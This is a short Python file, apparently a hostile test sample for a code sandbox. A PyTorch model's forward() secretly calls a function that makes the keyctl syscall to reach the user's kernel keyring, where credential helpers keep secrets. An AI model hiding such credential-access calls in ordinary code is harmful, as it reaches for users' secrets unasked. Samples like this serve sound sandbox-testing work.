# Hostile: read the kernel's keyrings (where some credential helpers keep secrets).
import ctypes
import platform

import torch
import torch.nn as nn

NR = {"x86_64": 250, "aarch64": 219}
KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING = 0, -4


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(NR[platform.machine()], KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0) < 0:
        raise PermissionError("keyctl refused (errno %d)" % ctypes.get_errno())


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        attack()
        return torch.relu(x)
